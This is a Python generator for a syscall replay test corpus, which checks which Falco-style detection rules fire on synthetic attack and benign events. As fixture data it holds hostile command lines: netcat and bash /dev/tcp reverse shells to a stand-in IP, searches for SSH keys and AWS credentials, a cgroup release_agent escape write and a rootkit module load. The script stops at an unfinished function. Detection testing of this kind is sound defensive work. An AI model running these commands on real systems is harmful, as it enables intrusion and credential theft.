#!/usr/bin/env python3
"""Writes events.jsonl and expected.txt of the syscall replay corpus.

Each ev(...) call is one event with the rule it must fire under rule_matching first, every rule it
matches under rule_matching all, and why: those expectations were worked out by reading the
conditions of the upstream falco_rules.yaml, never by running lanner. Run from anywhere:
    python3 collector/replay/testdata/syscall/gen.py
"""
import os
import json, copy

BASE = 1718000000  # 2024-06-10T06:13:20Z
events = []   # (id, event dict, first, all, why)

def T(i):
    import datetime
    return datetime.datetime.utcfromtimestamp(BASE + i).strftime('%Y-%m-%dT%H:%M:%S') + '.%09dZ' % (1000 * (i + 1))

SYSTEMD = {"pid": 1, "name": "systemd", "exe": "/sbin/init", "exepath": "/usr/lib/systemd/systemd", "sid": 1, "vpgid": 1}
def sshd_chain():
    return {"pid": 812, "name": "sshd", "exe": "/usr/sbin/sshd", "exepath": "/usr/sbin/sshd", "args": ["-D"], "sid": 812, "vpgid": 812,
            "parent": copy.deepcopy(SYSTEMD)}
def bash_under_sshd(pid=4200, user="root", uid=0):
    return {"pid": pid, "name": "bash", "exe": "-bash", "exepath": "/usr/bin/bash", "sid": pid, "vpgid": pid, "tty": 34816, "cwd": "/home/alice",
            "uid": uid, "user": user, "gid": uid, "group": user, "loginuid": 1000, "loginuser": "alice",
            "parent": {"pid": 4100, "name": "sshd", "exe": "sshd: alice [priv]", "exepath": "/usr/sbin/sshd", "sid": 4100, "vpgid": 4100,
                       "parent": sshd_chain()}}

def proc(pid, name, exepath, args, parent, exe=None, **kw):
    t = {"pid": pid, "name": name, "exe": exe if exe is not None else exepath, "exepath": exepath, "args": args}
    if parent is not None:
        t["parent"] = parent
        for k in ("uid", "user", "gid", "group", "loginuid", "loginuser", "tty", "sid", "cwd"):
            if k in parent and k not in kw:
                t[k] = parent[k]
    t.update(kw)
    if "cwd" not in t:
        t["cwd"] = "/"
    if "uid" not in t:
        t.update({"uid": 0, "user": "root", "gid": 0, "group": "root"})
    return t

CT_WEB = {"id": "3ad7b26ded6d", "full_id": "3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e", "runtime": "containerd",
          "name": "web", "image": "docker.io/library/nginx:1.25", "privileged": False,
          "pod": {"name": "web-7d9f8b6c5-x2x9q", "namespace": "shop", "uid": "5b9c0a52-1d4e-4a8e-9a47-6b5b1c3b0f11", "ip": "10.244.1.17",
                  "labels": {"app": "web", "pod-template-hash": "7d9f8b6c5"}, "replicaset": "web-7d9f8b6c5", "deployment": "web"}}
CT_TOOLS = {"id": "8c1f2e3d4b5a", "runtime": "containerd", "name": "toolbox", "image": "docker.io/curlimages/curl:8.8.0", "privileged": False,
            "pod": {"name": "toolbox", "namespace": "default", "uid": "0e0e0e0e-1111-2222-3333-444455556666", "labels": {"run": "toolbox"}}}
CT_PRIV = {"id": "f00dfeed0001", "runtime": "containerd", "name": "debug", "image": "docker.io/library/ubuntu:22.04", "privileged": True,
           "pod": {"name": "node-debugger-worker-1", "namespace": "default", "labels": {}}}

def runc_chain(ct):
    # processes started by kubectl exec: runc is the parent inside the container's view
    return {"pid": 7001, "name": "runc", "exe": "runc", "exepath": "/usr/bin/runc", "args": ["init"],
            "parent": {"pid": 6900, "name": "containerd-shim", "exepath": "/usr/bin/containerd-shim-runc-v2", "parent": copy.deepcopy(SYSTEMD)}}

def ev(eid, typ, i, thread, res=0, params=None, fd=None, container=None, first=None, all_=None, why="", comment="", **extra):
    e = {"type": typ, "time": T(i), "res": res}
    if params is not None:
        e["params"] = params
    e["thread"] = thread
    if fd is not None:
        e["fd"] = fd
    if container is not None:
        e["container"] = container
    e.update(extra)
    e = {"comment": f"{eid}: {comment}", **e}
    if all_ is None:
        all_ = [first] if first else []
    events.append((eid, e, first, all_, why))

def P(name, value=None, raw=None):
    p = {"name": name}
    if value is not None:
        p["value"] = value
    if raw is not None:
        p["raw"] = raw
    return p

def open_params(fd, name, flags, flagsraw, mode=0):
    return [P("fd", str(fd) if fd >= 0 else "ENOENT" if fd == -2 else str(fd), fd), P("dirfd", "AT_FDCWD", -100), P("name", name),
            P("flags", flags, flagsraw), P("mode", "0%o" % mode if mode else "0", mode)]

def exec_params(exepath, args, flags="0"):
    return [P("res", "0", 0), P("exe", exepath), P("args", " ".join(args)), P("flags", flags)]

R1 = "Directory traversal monitored file read"
R2 = "Read sensitive file trusted after startup"
R3 = "Read sensitive file untrusted"
R4 = "Run shell untrusted"
R5 = "System user interactive"
R6 = "Terminal shell in container"
R7 = "Contact K8S API Server From Container"
R8 = "Netcat Remote Code Execution in Container"
R9 = "Search Private Keys or Passwords"
R10 = "Clear Log Activities"
R11 = "Remove Bulk Data from Disk"
R12 = "Create Symlink Over Sensitive Files"
R13 = "Create Hardlink Over Sensitive Files"
R14 = "Packet socket created in container"
R15 = "Redirect STDOUT/STDIN to Network Connection in Container"
R16 = "Linux Kernel Module Injection Detected"
R17 = "Debugfs Launched in Privileged Container"
R18 = "Detect release_agent File Container Escapes"
R19 = "PTRACE attached to process"
R20 = "PTRACE anti-debug attempt"
R21 = "Find AWS Credentials"
R22 = "Execution from /dev/shm"
R23 = "Drop and execute new binary in container"
R24 = "Disallowed SSH Connection Non Standard Port"
R25 = "Fileless execution via memfd_create"

RD = "O_RDONLY"
i = 0
def nxt():
    global i
    i += 1
    return i

# --- 1 Directory traversal
phpfpm_master = {"pid": 2100, "name": "php-fpm8.2", "exepath": "/usr/sbin/php-fpm8.2", "exe": "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)", "parent": copy.deepcopy(SYSTEMD)}
def phpfpm(pid=2150, pname_parent=None):
    parent = pname_parent if pname_parent is not None else copy.deepcopy(phpfpm_master)
    return proc(pid, "php-fpm8.2", "/usr/sbin/php-fpm8.2", [], parent, exe="php-fpm: pool www", uid=33, user="www-data", gid=33, group="www-data")
ev("dirtrav-pos", "openat", nxt(), phpfpm(), res=5, params=open_params(5, "/var/www/html/../../../etc/passwd", RD, 0),
   fd={"num": 5, "type": "file", "name": "/etc/passwd", "nameraw": "/var/www/html/../../../etc/passwd"},
   first=R1, why="php-fpm opened /etc/passwd through ../../ (etc_dir, directory_traversal); parent php-fpm is not a shell; /etc/passwd is not a sensitive file",
   comment="web app reads /etc/passwd through a path traversal")
ev("dirtrav-pos-failed", "open", nxt(), phpfpm(), res=-2, params=[P("fd", "ENOENT", -2), P("name", "../../../root/.ssh/id_rsa"), P("flags", RD, 0), P("mode", "0", 0)],
   fd={"num": -1, "type": "file", "name": "/root/.ssh/id_rsa", "nameraw": "../../../root/.ssh/id_rsa"},
   first=R1, why="open_file_failed (fd.num=-1, evt.res ENOENT starts with E) of a path under /root/.ssh reached with ../../",
   comment="failed traversal to root's private key still counts")
ev("dirtrav-pos-shadow", "openat", nxt(), phpfpm(), res=6, params=open_params(6, "/var/www/html/../../../etc/shadow", RD, 0),
   fd={"num": 6, "type": "file", "name": "/etc/shadow", "nameraw": "/var/www/html/../../../etc/shadow"},
   first=R1, all_=[R1, R3], why="traversal to /etc/shadow: Directory traversal (defined first) and Read sensitive file untrusted both match",
   comment="one event, two rules: rule_matching first keeps the earlier rule")
ev("dirtrav-neg-shell-parent", "openat", nxt(), proc(4300, "cat", "/usr/bin/cat", ["../../etc/passwd"], bash_under_sshd(), cwd="/home/alice/src"), res=3,
   params=open_params(3, "../../etc/passwd", RD, 0), fd={"num": 3, "type": "file", "name": "/etc/passwd", "nameraw": "../../etc/passwd"},
   first=None, why="same traversal but the parent is bash, in shell_binaries",
   comment="a user at a shell using a relative path is not an attack")

# --- 2 Read sensitive file trusted after startup
def nginx_worker(pid, age_s, idx):
    t = proc(pid, "nginx", "/usr/sbin/nginx", [], {"pid": 1500, "name": "nginx", "exe": "nginx: master process /usr/sbin/nginx", "exepath": "/usr/sbin/nginx", "args": ["-g", "daemon off;"], "parent": copy.deepcopy(SYSTEMD)},
             exe="nginx: worker process", uid=33, user="www-data", gid=33, group="www-data")
    t["start_time"] = (BASE + idx) * 1000000000 + 1000 * (idx + 1) - age_s * 1000000000
    return t
k = nxt()
ev("trusted-after-startup-pos", "openat", k, nginx_worker(1501, 3600, k), res=9, params=open_params(9, "/etc/shadow", RD, 0),
   fd={"num": 9, "type": "file", "name": "/etc/shadow"},
   first=R2, all_=[R2, R3], why="nginx (server_procs) reads /etc/shadow an hour after it started; nginx is not trusted by Read sensitive file untrusted either",
   comment="long-running web server reads /etc/shadow")
k = nxt()
ev("trusted-after-startup-neg-new", "openat", k, nginx_worker(1502, 2, k), res=9, params=open_params(9, "/etc/shadow", RD, 0),
   fd={"num": 9, "type": "file", "name": "/etc/shadow"},
   first=R3, why="proc.duration 2s <= 5s: proc_is_new excludes it from the trusted-after-startup rule, but Read sensitive file untrusted still fires",
   comment="nginx just started: reading /etc/shadow at startup is allowed by this rule")

# --- 3 Read sensitive file untrusted
ev("untrusted-pos", "openat", nxt(), proc(4400, "cat", "/usr/bin/cat", ["/etc/shadow"], bash_under_sshd()), res=3,
   params=open_params(3, "/etc/shadow", "O_RDONLY|O_CLOEXEC", 0o2000000), fd={"num": 3, "type": "file", "name": "/etc/shadow"},
   first=R3, why="cat is in none of the trusted lists and no exception macro applies",
   comment="cat /etc/shadow from an ssh session")
ev("untrusted-pos-pamd", "openat", nxt(), proc(4401, "python3", "/usr/bin/python3.11", ["exfil.py"], bash_under_sshd(), exe="python3"), res=4,
   params=open_params(4, "/etc/pam.d/common-auth", RD, 0), fd={"num": 4, "type": "file", "name": "/etc/pam.d/common-auth"},
   first=R3, why="fd.directory /etc/pam.d is a sensitive directory; python3 without ansible in its command line is not excused",
   comment="script reads a PAM file")
ev("untrusted-neg-trusted-program", "openat", nxt(), proc(813, "sshd", "/usr/sbin/sshd", ["-D", "-R"], sshd_chain()), res=3,
   params=open_params(3, "/etc/shadow", RD, 0), fd={"num": 3, "type": "file", "name": "/etc/shadow"},
   first=None, why="sshd is in read_sensitive_file_binaries; the trusted-after-startup rule excludes sshd by name",
   comment="sshd reading /etc/shadow is expected")
ev("untrusted-neg-cp-by-passwd", "openat", nxt(), proc(4402, "cp", "/usr/bin/cp", ["/etc/shadow", "/etc/shadow-"], proc(4390, "passwd", "/usr/bin/passwd", [], bash_under_sshd())), res=3,
   params=open_params(3, "/etc/shadow", RD, 0), fd={"num": 3, "type": "file", "name": "/etc/shadow"},
   first=None, why="cmp_cp_by_passwd: cp whose parent is passwd",
   comment="passwd backing up the shadow file")
ev("untrusted-neg-write", "openat", nxt(), proc(4403, "cat", "/usr/bin/cat", [], bash_under_sshd()), res=3,
   params=open_params(3, "/etc/shadow", "O_WRONLY|O_APPEND", 0o2001), fd={"num": 3, "type": "file", "name": "/etc/shadow"},
   first=None, why="opened for writing only: evt.is_open_read is false, so open_read does not hold",
   comment="write-only open is not a read")

# --- 4 Run shell untrusted
def nginx_sh(args, pid=1610):
    ngw = {"pid": 1600, "name": "nginx", "exe": "nginx: worker process", "exepath": "/usr/sbin/nginx", "uid": 33, "user": "www-data", "gid": 33, "group": "www-data",
           "parent": {"pid": 1500, "name": "nginx", "exe": "nginx: master process /usr/sbin/nginx", "exepath": "/usr/sbin/nginx", "parent": copy.deepcopy(SYSTEMD)}}
    return proc(pid, "sh", "/usr/bin/dash", args, ngw, exe="sh")
ev("shell-untrusted-pos", "execve", nxt(), nginx_sh(["-c", "id; uname -a"]), params=exec_params("/bin/sh", ["-c", "id; uname -a"]),
   first=R4, why="sh spawned below nginx (protected_shell_spawning_binaries via proc.aname); no exception applies",
   comment="web server spawns a shell (RCE)")
ev("shell-untrusted-neg-known-cmdline", "execve", nxt(), nginx_sh(["-c", "uname -p 2> /dev/null"], pid=1611), params=exec_params("/bin/sh", ["-c", "uname -p 2> /dev/null"]),
   first=None, why="proc.cmdline \"sh -c uname -p 2> /dev/null\" is in known_shell_spawn_cmdlines",
   comment="known harmless shell command of a server")
ev("shell-untrusted-neg-unprotected", "execve", nxt(), proc(4500, "sh", "/usr/bin/dash", ["-c", "id; uname -a"], proc(4490, "make", "/usr/bin/make", [], bash_under_sshd()), exe="sh"),
   params=exec_params("/bin/sh", ["-c", "id; uname -a"]),
   first=None, why="no ancestor is a protected shell spawner (make, bash, sshd, systemd)",
   comment="same command from a build tool")

# --- 5 System user interactive
ev("system-user-pos", "execve", nxt(), proc(4600, "whoami", "/usr/bin/whoami", [], bash_under_sshd(4590, user="daemon", uid=1)),
   params=exec_params("/usr/bin/whoami", []), first=R5, why="user daemon is in system_users; an ancestor is sshd and the process is not sshd (interactive)",
   comment="system account used interactively over ssh")
ev("system-user-neg", "execve", nxt(), proc(4601, "whoami", "/usr/bin/whoami", [], bash_under_sshd(4591, user="alice", uid=1000)),
   params=exec_params("/usr/bin/whoami", []), first=None, why="alice is not a system user",
   comment="regular user over ssh")

# --- 6 Terminal shell in container
ev("terminal-shell-pos", "execve", nxt(), proc(7010, "bash", "/usr/bin/bash", [], runc_chain(CT_WEB), tty=34817, vpid=42, container=copy.deepcopy(CT_WEB)),
   params=exec_params("/bin/bash", []), first=R6, why="bash in a container, with a tty, parent runc (container_entrypoint)",
   comment="kubectl exec -it web -- bash")
ev("terminal-shell-neg-no-tty", "execve", nxt(), proc(7011, "bash", "/usr/bin/bash", ["-c", "date"], runc_chain(CT_WEB), tty=0, container=copy.deepcopy(CT_WEB)),
   params=exec_params("/bin/bash", ["-c", "date"]), first=None, why="proc.tty is 0",
   comment="kubectl exec without -t")

# --- 7 Contact K8S API Server From Container
def curl_connect(ct, i_, sip="10.96.0.1"):
    t = proc(8100, "curl", "/usr/bin/curl", ["-sk", "https://kubernetes.default.svc/api"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "/bin/sh", "args": ["-c", "sleep infinity"], "container": copy.deepcopy(ct)}, exe="curl", container=copy.deepcopy(ct))
    return t
ev("k8s-api-pos", "connect", nxt(), curl_connect(CT_TOOLS, 0), res=0,
   params=[P("res", "0", 0), P("tuple", "10.244.1.30:48766->10.96.0.1:443"), P("fd", "3", 3)],
   fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.30", "cport": 48766, "sip": "10.96.0.1", "sport": 443, "connected": True},
   first=R7, why="IPv4 connect from a container to the address kubernetes.default.svc.cluster.local resolves to; curl image and namespace default are not in k8s_containers",
   comment="pod talks to the API server (needs the resolver: kubernetes.default.svc.cluster.local -> 10.96.0.1)")
ct_ks = copy.deepcopy(CT_TOOLS)
ct_ks["pod"]["namespace"] = "kube-system"
ev("k8s-api-neg-kube-system", "connect", nxt(), curl_connect(ct_ks, 0), res=0,
   params=[P("res", "0", 0), P("tuple", "10.244.1.30:48767->10.96.0.1:443"), P("fd", "3", 3)],
   fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.30", "cport": 48767, "sip": "10.96.0.1", "sport": 443, "connected": True},
   first=None, why="k8s.ns.name is kube-system (k8s_containers)",
   comment="system pods may talk to the API server")
ev("k8s-api-neg-other-ip", "connect", nxt(), curl_connect(CT_TOOLS, 0), res=0,
   params=[P("res", "0", 0), P("tuple", "10.244.1.30:48768->10.96.5.5:443"), P("fd", "3", 3)],
   fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.30", "cport": 48768, "sip": "10.96.5.5", "sport": 443, "connected": True},
   first=None, why="10.96.5.5 is not an address of kubernetes.default.svc.cluster.local",
   comment="another in-cluster service")

# --- 8 Netcat
ev("netcat-pos", "execve", nxt(), proc(8200, "nc", "/usr/bin/nc.openbsd", ["-e", "/bin/sh", "203.0.113.7", "4444"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "/bin/sh", "container": copy.deepcopy(CT_WEB)}, exe="nc", container=copy.deepcopy(CT_WEB)),
   params=exec_params("/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.7", "4444"]), first=R8, why="nc in a container with ' -e' in its command line",
   comment="reverse shell with netcat")
ev("netcat-neg", "execve", nxt(), proc(8201, "nc", "/usr/bin/nc.openbsd", ["-zv", "db", "5432"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "/bin/sh", "container": copy.deepcopy(CT_WEB)}, exe="nc", container=copy.deepcopy(CT_WEB)),
   params=exec_params("/usr/bin/nc", ["-zv", "db", "5432"]), first=None, why="no ' -e' or ' -c' in the command line",
   comment="netcat port check")

# --- 9 Search Private Keys or Passwords
ev("private-keys-pos-find", "execve", nxt(), proc(4700, "find", "/usr/bin/find", ["/", "-name", "id_rsa"], bash_under_sshd()),
   params=exec_params("/usr/bin/find", ["/", "-name", "id_rsa"]), first=R9, why="find with id_rsa in its arguments",
   comment="hunting for ssh keys")
ev("private-keys-pos-grep", "execve", nxt(), proc(4701, "grep", "/usr/bin/grep", ["-rl", "begin rsa private", "/home"], bash_under_sshd()),
   params=exec_params("/usr/bin/grep", ["-rl", "begin rsa private", "/home"]), first=R9, why="grep whose args contain BEGIN RSA PRIVATE, case-insensitively (icontains)",
   comment="grep for PEM headers, lower case")
ev("private-keys-neg", "execve", nxt(), proc(4702, "find", "/usr/bin/find", ["/var/log", "-name", "*.gz"], bash_under_sshd()),
   params=exec_params("/usr/bin/find", ["/var/log", "-name", "*.gz"]), first=None, why="no key file names in the arguments",
   comment="ordinary find")

# --- 10 Clear Log Activities
ev("clear-log-pos", "openat", nxt(), proc(4800, "bash", "/usr/bin/bash", [], bash_under_sshd(), exe="-bash", tty=34816), res=3,
   params=open_params(3, "/var/log/auth.log", "O_WRONLY|O_CREAT|O_TRUNC", 0o1101, 0o644), fd={"num": 3, "type": "file", "name": "/var/log/auth.log"},
   first=R10, why="open for writing with O_TRUNC of a file in /var/log",
   comment="> /var/log/auth.log")
ev("clear-log-neg-append", "openat", nxt(), proc(900, "rsyslogd", "/usr/sbin/rsyslogd", ["-n", "-iNONE"], copy.deepcopy(SYSTEMD)), res=7,
   params=open_params(7, "/var/log/auth.log", "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC", 0o2002101, 0o640), fd={"num": 7, "type": "file", "name": "/var/log/auth.log"},
   first=None, why="no O_TRUNC in the flags",
   comment="syslog appends")

# --- 11 Remove Bulk Data
ev("bulk-remove-pos", "execve", nxt(), proc(4900, "shred", "/usr/bin/shred", ["-u", "/srv/db/main.sqlite"], bash_under_sshd()),
   params=exec_params("/usr/bin/shred", ["-u", "/srv/db/main.sqlite"]), first=R11, why="proc.name shred is in data_remove_commands",
   comment="shredding a database")
ev("bulk-remove-neg", "execve", nxt(), proc(4901, "mkfs.ext4", "/usr/sbin/mkfs.ext4", ["/dev/vdb"], bash_under_sshd()),
   params=exec_params("/usr/sbin/mkfs.ext4", ["/dev/vdb"]), first=None, why="mkfs.ext4 is not mkfs: in compares whole names",
   comment="exact names only")

# --- 12 symlink
ev("symlink-pos", "symlinkat", nxt(), proc(5000, "ln", "/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/s"], bash_under_sshd()), res=0,
   params=[P("res", "0", 0), P("target", "/etc/shadow"), P("linkdirfd", "AT_FDCWD", -100), P("linkpath", "/tmp/s")],
   first=R12, why="evt.arg.target /etc/shadow is in sensitive_file_names", comment="ln -s /etc/shadow /tmp/s")
ev("symlink-pos-dir", "symlink", nxt(), proc(5001, "ln", "/usr/bin/ln", ["-s", "/root", "/tmp/r"], bash_under_sshd()), res=0,
   params=[P("res", "0", 0), P("target", "/root"), P("linkpath", "/tmp/r")],
   first=R12, why="evt.arg.target /root is in sensitive_directory_names", comment="ln -s /root /tmp/r")
ev("symlink-neg", "symlinkat", nxt(), proc(5002, "ln", "/usr/bin/ln", ["-s", "/etc/hosts", "/tmp/h"], bash_under_sshd()), res=0,
   params=[P("res", "0", 0), P("target", "/etc/hosts"), P("linkdirfd", "AT_FDCWD", -100), P("linkpath", "/tmp/h")],
   first=None, why="/etc/hosts is not sensitive", comment="harmless symlink")

# --- 13 hardlink
ev("hardlink-pos", "linkat", nxt(), proc(5100, "ln", "/usr/bin/ln", ["/etc/sudoers", "/tmp/x"], bash_under_sshd()), res=0,
   params=[P("res", "0", 0), P("olddir", "AT_FDCWD", -100), P("oldpath", "/etc/sudoers"), P("newdir", "AT_FDCWD", -100), P("newpath", "/tmp/x"), P("flags", "0", 0)],
   first=R13, why="evt.arg.oldpath /etc/sudoers is in sensitive_file_names", comment="ln /etc/sudoers /tmp/x")
ev("hardlink-neg", "linkat", nxt(), proc(5101, "ln", "/usr/bin/ln", ["/etc/sudoers.d/90-cloud", "/tmp/y"], bash_under_sshd()), res=0,
   params=[P("res", "0", 0), P("olddir", "AT_FDCWD", -100), P("oldpath", "/etc/sudoers.d/90-cloud"), P("newdir", "AT_FDCWD", -100), P("newpath", "/tmp/y"), P("flags", "0", 0)],
   first=None, why="the hardlink rule only checks sensitive_file_names; a file under /etc/sudoers.d is not one", comment="link of a sudoers.d file")

# --- 14 packet socket
def tcpdump(ct):
    return proc(8300, "tcpdump", "/usr/bin/tcpdump", ["-i", "eth0"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "/bin/sh", "container": copy.deepcopy(ct)}, exe="tcpdump", container=copy.deepcopy(ct))
ev("packet-socket-pos", "socket", nxt(), tcpdump(CT_WEB), res=3,
   params=[P("fd", "3", 3), P("domain", "AF_PACKET", 17), P("type", "3", 3), P("proto", "768", 768)],
   fd={"num": 3, "type": "unknown", "name": ""},
   first=R14, why="socket with domain AF_PACKET in a container", comment="sniffer in a pod")
ev("packet-socket-neg", "socket", nxt(), tcpdump(CT_WEB), res=3,
   params=[P("fd", "3", 3), P("domain", "AF_INET", 2), P("type", "1", 1), P("proto", "0", 0)],
   fd={"num": 3, "type": "ipv4", "name": ""},
   first=None, why="domain AF_INET", comment="ordinary socket")

# --- 15 dup redirect
def revshell(ct):
    return proc(8400, "bash", "/usr/bin/bash", ["-i"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "/bin/sh", "args": ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], "container": copy.deepcopy(ct),
                                                          "parent": {"pid": 7999, "name": "node", "exepath": "/usr/local/bin/node", "exe": "node", "args": ["server.js"], "container": copy.deepcopy(ct)}},
                exe="bash", container=copy.deepcopy(ct))
sockfd = {"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.17", "cport": 51234, "sip": "203.0.113.7", "sport": 4444, "connected": True}
ev("dup-redirect-pos", "dup2", nxt(), revshell(CT_WEB), res=0,
   params=[P("res", "0", 0), P("oldfd", "3(<4t>10.244.1.17:51234->203.0.113.7:4444)", 3), P("newfd", "0", 0)], fd=copy.deepcopy(sockfd),
   first=R15, why="dup2 of an IPv4 socket onto fd 0 in a container", comment="bash -i >& /dev/tcp/... 0>&1")
ev("dup-redirect-neg", "dup2", nxt(), revshell(CT_WEB), res=5,
   params=[P("res", "5", 5), P("oldfd", "3(<4t>10.244.1.17:51234->203.0.113.7:4444)", 3), P("newfd", "5", 5)], fd=copy.deepcopy(sockfd),
   first=None, why="evt.rawres 5 is not a standard stream", comment="dup onto fd 5")

# --- 16 kernel module
def insmod(ct, caps, res):
    return proc(8500, "insmod", "/usr/sbin/insmod", ["rootkit.ko"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "/bin/sh", "container": copy.deepcopy(ct)}, exe="insmod", container=copy.deepcopy(ct), cap_effective=caps)
ev("kmod-pos", "finit_module", nxt(), insmod(CT_PRIV, "CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_MODULE CAP_SYS_ADMIN", 0), res=0,
   params=[P("res", "0", 0), P("fd", "3", 3), P("uargs", ""), P("flags", "0", 0)],
   first=R16, why="finit_module in a container whose thread has CAP_SYS_MODULE (icontains sys_module)", comment="module load from a privileged pod")
ev("kmod-neg", "finit_module", nxt(), insmod(CT_WEB, "CAP_CHOWN CAP_DAC_OVERRIDE CAP_NET_BIND_SERVICE", -1), res=-1,
   params=[P("res", "EPERM", -1), P("fd", "3", 3), P("uargs", ""), P("flags", "0", 0)],
   first=None, why="no CAP_SYS_MODULE in the effective set", comment="attempt without the capability")

# --- 17 debugfs
def debugfs(ct):
    return proc(8600, "debugfs", "/usr/sbin/debugfs", ["/dev/sda1"], {"pid": 8000, "name": "bash", "exepath": "/bin/bash", "exe": "bash", "container": copy.deepcopy(ct)}, exe="debugfs", container=copy.deepcopy(ct))
ev("debugfs-pos", "execve", nxt(), debugfs(CT_PRIV), params=exec_params("/usr/sbin/debugfs", ["/dev/sda1"]),
   first=R17, why="debugfs in a privileged container", comment="container escape through the host disk")
ev("debugfs-neg", "execve", nxt(), debugfs(CT_WEB), params=exec_params("/usr/sbin/debugfs", ["/dev/sda1"]),
   first=None, why="container.privileged is false", comment="unprivileged container")

# --- 18 release_agent
def escape(caps):
    return proc(8700, "sh", "/usr/bin/dash", ["-c", "echo /tmp/x > /sys/fs/cgroup/rdma/release_agent"], {"pid": 8000, "name": "bash", "exepath": "/bin/bash", "exe": "bash", "container": copy.deepcopy(CT_PRIV)}, exe="sh", container=copy.deepcopy(CT_PRIV), cap_effective=caps)
ev("release-agent-pos", "openat", nxt(), escape("CAP_DAC_OVERRIDE CAP_SYS_ADMIN"), res=3,
   params=open_params(3, "/sys/fs/cgroup/rdma/release_agent", "O_WRONLY|O_CREAT|O_TRUNC", 0o1101, 0o666), fd={"num": 3, "type": "file", "name": "/sys/fs/cgroup/rdma/release_agent"},
   first=R18, why="write open of a release_agent file in a container by uid 0 with CAP_SYS_ADMIN", comment="cgroup v1 release_agent escape")
ev("release-agent-neg", "openat", nxt(), escape("CAP_CHOWN CAP_DAC_OVERRIDE"), res=3,
   params=open_params(3, "/sys/fs/cgroup/rdma/release_agent", "O_WRONLY|O_CREAT|O_TRUNC", 0o1101, 0o666), fd={"num": 3, "type": "file", "name": "/sys/fs/cgroup/rdma/release_agent"},
   first=None, why="no CAP_SYS_ADMIN in the effective set", comment="same write without CAP_SYS_ADMIN")

# --- 19/20 ptrace
def ptr(name, exepath, args):
    return proc(5200, name, exepath, args, bash_under_sshd())
ev("ptrace-attach-pos", "ptrace", nxt(), ptr("gdb", "/usr/bin/gdb", ["-p", "1500"]), res=0,
   params=[P("res", "0", 0), P("addr", "0", 0), P("data", "0", 0), P("request", "PTRACE_ATTACH", 16), P("pid", "1500", 1500)],
   first=R19, why="evt.arg.request contains PTRACE_ATTACH; proc.name exists; known_ptrace_binaries is empty", comment="debugger attaches to nginx")
ev("ptrace-attach-neg", "ptrace", nxt(), ptr("gdb", "/usr/bin/gdb", ["-p", "1500"]), res=0,
   params=[P("res", "0", 0), P("addr", "0x7ffd5000", 140726354329600), P("data", "0", 0), P("request", "PTRACE_PEEKDATA", 2), P("pid", "1500", 1500)],
   first=None, why="PTRACE_PEEKDATA is neither an attach nor an injection request, nor TRACEME", comment="reading memory of an already traced process")
ev("ptrace-traceme-pos", "ptrace", nxt(), ptr("crackme", "/tmp/crackme", []), res=0,
   params=[P("res", "0", 0), P("addr", "0", 0), P("data", "0", 0), P("request", "PTRACE_TRACEME", 0), P("pid", "0", 0)],
   first=R20, why="evt.arg.request contains PTRACE_TRACEME; not an attach request", comment="anti-debugging trick")
ev("ptrace-traceme-neg-na-name", "ptrace", nxt(), ptr("N/A", "/tmp/crackme", []), res=0,
   params=[P("res", "0", 0), P("addr", "0", 0), P("data", "0", 0), P("request", "PTRACE_TRACEME", 0), P("pid", "0", 0)],
   first=None, why="proc_name_exists is false for a process named N/A", comment="placeholder process names are ignored")

# --- 21 AWS credentials
ev("aws-creds-pos", "execve", nxt(), proc(5300, "grep", "/usr/bin/grep", ["-ri", "aws_secret_access_key", "/home"], bash_under_sshd(), cwd="/home/alice"),
   params=exec_params("/usr/bin/grep", ["-ri", "aws_secret_access_key", "/home"]), first=R21, why="grep with aws_secret_access_key in its arguments",
   comment="searching for AWS keys")
ev("aws-creds-pos-find", "execve", nxt(), proc(5301, "find", "/usr/bin/find", ["/home", "-path", "*.aws/credentials"], bash_under_sshd()),
   params=exec_params("/usr/bin/find", ["/home", "-path", "*.aws/credentials"]), first=R21, why="find whose arguments end with .aws/credentials",
   comment="finding credential files")
ev("aws-creds-neg", "execve", nxt(), proc(5302, "grep", "/usr/bin/grep", ["-ri", "aws_region", "/home"], bash_under_sshd()),
   params=exec_params("/usr/bin/grep", ["-ri", "aws_region", "/home"]), first=None, why="aws_region is not a credential keyword",
   comment="harmless grep")

# --- 22 /dev/shm
ev("devshm-pos", "execve", nxt(), proc(5400, "x", "/dev/shm/x", [], bash_under_sshd(), exe="/dev/shm/x", cwd="/root"),
   params=exec_params("/dev/shm/x", []), first=R22, why="proc.exe starts with /dev/shm/; a host process has an empty image repository, not in the trusted lists",
   comment="binary dropped in /dev/shm")
ev("devshm-pos-cwd", "execve", nxt(), proc(5401, "payload", "/dev/shm/.x/payload", [], bash_under_sshd(), exe="./payload", cwd="/dev/shm/.x"),
   params=exec_params("/dev/shm/.x/payload", []), first=R22, why="cwd under /dev/shm/ and proc.exe starts with ./",
   comment="relative execution inside /dev/shm")
calico = {"id": "c0ffee000001", "runtime": "containerd", "name": "calico-node", "image": "docker.io/calico/node:v3.27.0", "privileged": True,
          "pod": {"name": "calico-node-abcde", "namespace": "kube-system"}}
ev("devshm-neg-trusted-image", "execve", nxt(), proc(8800, "x", "/dev/shm/x", [], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "sh", "container": copy.deepcopy(calico)}, exe="/dev/shm/x", container=copy.deepcopy(calico)),
   params=exec_params("/dev/shm/x", []), first=None, why="docker.io/calico/node is in falco_privileged_images",
   comment="trusted infrastructure image")

# --- 23 drop and execute
def dropped(upper, i_):
